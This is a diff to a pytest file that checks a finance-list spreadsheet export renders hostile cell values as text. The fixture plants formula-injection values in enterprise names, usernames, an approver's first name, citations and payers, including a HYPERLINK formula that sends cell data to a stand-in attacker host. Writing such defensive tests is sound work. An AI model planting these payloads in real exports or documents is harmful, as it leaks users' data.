@@ -25,15 +25,19 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"财政清单")'
 
 
 @pytest.fixture
-def approved(policies_loaded, yuxian_clerk, jurisdictions, enterprises):
-    """盂县耐火 entered in 2024; its entitlements are approved by a reviewer named like a formula."""
+def approved(policies_loaded, yuxian_clerk, yuxian_chief, jurisdictions, enterprises):
+    """盂县耐火 entered in 2024; its entitlements are reviewed and approved by people named like formulas."""
     target = enterprises["yu_gxj"]
     registry.scale_event_record(user=yuxian_clerk, enterprise=target, kind="first_entry", on=date(2024, 12, 1))
     batch = services.entitlement_batch_request(user=yuxian_clerk, jurisdiction=jurisdictions["yuxian"], year=2024)
     services.entitlement_batch_run(batch_id=batch.pk)
     yuxian_clerk.username = "@A1+1"
     yuxian_clerk.save()
-    services.entitlements_approve(user=yuxian_clerk, ids=list(Entitlement.objects.values_list("pk", flat=True)))
+    yuxian_chief.first_name = "=陈刚"
+    yuxian_chief.save()
+    ids = list(Entitlement.objects.values_list("pk", flat=True))
+    assert services.entitlements_review(user=yuxian_clerk, ids=ids).done == len(ids)
+    assert services.entitlements_approve(user=yuxian_chief, ids=ids).done == len(ids)
     Enterprise.objects.filter(pk=target.pk).update(name=HYPERLINK)
     Entitlement.objects.update(citation="-1+2", payers=[{"payer": "+财政", "amount": "300000.00"}])
     return target
@@ -51,9 +55,10 @@ def test_the_finance_list_writes_hostile_text_as_text(client, yuxian_clerk, appr
     lines = list(sheet.iter_rows(min_row=2))
     assert lines
     for line in lines:
-        name, citation, payer, reviewer = line[2], line[5], line[6], line[10]
-        assert (name.value, citation.value, payer.value, reviewer.value) == (HYPERLINK, "-1+2", "+财政", "@A1+1")
-        assert all(c.data_type == "s" and c.quotePrefix for c in (name, citation, payer, reviewer))
+        name, citation, payer, reviewer, approver = line[2], line[5], line[6], line[10], line[11]
+        assert (name.value, citation.value, payer.value, reviewer.value, approver.value) == (
+            HYPERLINK, "-1+2", "+财政", "@A1+1", "=陈刚")
+        assert all(c.data_type == "s" and c.quotePrefix for c in (name, citation, payer, reviewer, approver))
         assert line[7].data_type == "n" and line[0].value == 2024  # amounts and years stay numbers
 
 
